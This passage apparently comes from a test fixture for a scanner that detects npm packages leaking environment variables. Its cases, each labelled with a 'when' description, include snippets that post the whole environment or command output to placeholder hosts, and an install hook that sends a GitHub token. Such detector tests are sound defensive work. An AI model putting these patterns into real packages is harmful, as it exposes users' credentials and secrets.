        'index.js': `const url = process.env.DATABASE_URL ?? ''; exports.start = () => fetch('https://stats.invalid/v1', { method: 'POST', body: JSON.stringify({ has: Boolean(process.env.DATABASE_URL), is: url.startsWith('postgres:'), was: /^mysql/.test(url), same: process.env.DATABASE_URL === 'x' }) });`,
      },
    },
    {
      when: 'a driver asks the database that the environment names',
      files: {
        'index.js': `exports.query = sql => { const url = new URL(process.env.DATABASE_URL); return fetch('https://' + url.hostname + '/sql', { method: 'POST', headers: { 'x-connection-string': process.env.DATABASE_URL }, body: JSON.stringify({ sql }) }); };`,
      },
    },
    {
      when: 'settings are checked, and a name of the project is asked for',
      files: {
        'index.js': `import { resolve4 } from 'node:dns/promises'; export function load(shape, source = process.env) { return Object.fromEntries(Object.entries(source).filter(([name]) => name in shape)); } export const isUp = name => resolve4(name + '.specimen.invalid').then(() => true, () => false);`,
      },
    },

    {
      when: 'a command that is started in it and more has its output sent',
      files: {
        'index.js': `const { execFileSync } = require('child_process'); const log = execFileSync('git', ['log'], { env: { ...process.env, GIT_PAGER: '' } }).toString(); exports.go = repo => fetch('https://api.git.invalid/repos/' + repo + '/contents/CHANGES.md', { method: 'PUT', body: log });`,
      },
    },
    {
      when: 'a command that is started in it has its output put into a file of a repository',
      files: {
        'package.json': { name: 'specimen', version: '1.0.0', bin: 'cli.js' },
        'cli.js': `#!/usr/bin/env node\nconst out = require('child_process').execSync('npm ls', { env: process.env }); fetch('https://api.git.invalid/repos/a/b/contents/tree.txt', { method: 'PUT', body: JSON.stringify({ content: out.toString('base64') }) });`,
      },
    },
    {
      when: 'a client has its address from a setting or the code, and its own key',
      files: {
        'package.json': { name: 'acme', version: '1.0.0', main: 'index.js' },
        'index.js': `const api = process.env.ACME_URL || 'https://api.acme.invalid'; exports.send = body => fetch(api + '/v1', { method: 'POST', body: JSON.stringify(body), headers: { authorization: process.env.ACME_API_KEY } })`,
      },
    },
    {
      when: 'a client of GitHub takes the token under either of its names',
      files: {
        'index.js': `const token = process.env.GH_TOKEN || process.env.GITHUB_TOKEN; fetch('https://api.github.com/user', { headers: { authorization: 'token ' + token } })`,
      },
    },
    {
      when: 'a mode is told, where none is set another',
      files: {
        'index.js': `const mode = process.env.SPECIMEN_MODE || process.env.NODE_ENV || 'production'; fetch('https://status.invalid/?mode=' + mode)`,
      },
    },
    {
      when: 'a client asks the system that it runs in for its own key by name',
      files: {
        'index.js': `const read = name => globalThis.process ? process.env[name] : globalThis.Deno?.env?.get?.(name)?.trim(); exports.ask = (text, key = read('SPECIMEN_API_KEY')) => fetch('https://api.specimen.invalid/v1', { headers: { authorization: 'Bearer ' + key }, body: text })`,
      },
    },
    {
      when: 'a token goes to the service that gave it out',
      files: {
        'package.json': { name: 'specimen', version: '1.0.0', scripts: { postinstall: 'node index.js' } },
        'index.js': `fetch('https://api.github.com/repos/acme/tool/releases', { headers: { authorization: 'token ' + process.env.GITHUB_TOKEN } })`,
      },
    },
    {
      when: 'a client of a service is handed its key',
      files: {
        'index.js': `const { S3Client } = require('@aws-sdk/client-s3'); exports.client = new S3Client({ credentials: { secretAccessKey: process.env.AWS_SECRET_ACCESS_KEY } });`,
      },
    },
    {
      when: 'a client sends its own key when it is called',
      files: {
        'index.js': `exports.ask = () => fetch('https://api.acme.invalid/v1', { headers: { authorization: 'Bearer ' + process.env.ACME_API_KEY } })`,
      },
    },
    { when: 'the environment says which server to ask', files: { 'index.js': `fetch(process.env.REGISTRY_URL + '/ping')` } },
    {
      when: 'a bundle reads the environment and sends something else',
      files: {
        'index.js': `const all = { ...process.env }; exports.all = all; fetch('https://api.invalid/', { method: 'POST', body: 'hello' })`,
      },
    },
    {
      when: 'a program is started in it and its output is sent',
      files: {
        'index.js': `const out = require('child_process').execSync('git rev-parse HEAD', { env: process.env }); fetch('https://api.invalid/' , { method: 'POST', body: out })`,
      },
    },
    {
      when: 'it is sent to this machine',
      files: { 'index.js': `fetch('http://localhost:3000/', { method: 'POST', body: JSON.stringify(process.env) })` },
    },
    {
      when: 'a configuration is read out of the environment and one setting is sent when it is called',
      files: {
        'index.js': `const config = { region: process.env.REGION, ...{ stage: process.env.STAGE } }; exports.ping = () => fetch('https://api.specimen.invalid/ping', { method: 'POST', body: JSON.stringify(config) })`,
      },
    },
    {
      when: 'an installer looks up settings by names that it works out',
      files: {
        'package.json': { name: 'specimen', scripts: { install: 'node i.js' } },
        'i.js': `const axios = require('axios'); const setting = name => process.env[name.toUpperCase()] ?? process.env['npm_config_' + name]; axios.request({ method: 'get', url: setting('specimen_cdn') + '/latest.json', headers: { agent: setting('user_agent') } })`,
      },
    },
    {
      when: 'a release tool shows each service its own key',
      files: {
        'index.js': `exports.release = () => { const { NPM_TOKEN, GITHUB_TOKEN } = process.env; return Promise.all([fetch('https://api.github.com/x', { headers: { a: GITHUB_TOKEN } }), fetch('https://registry.npm.invalid/x', { headers: { a: NPM_TOKEN } })]); }`,
      },
    },
    {
      when: 'it asks another Node for one that is no secret',
      files: {
        'index.js': `const { execFileSync } = require('child_process'); exports.run = () => fetch('https://collect.invalid/i', { method: 'POST', body: execFileSync(process.execPath, ['-p', 'process.env.LANG']) });`,
      },
    },
  ],
});
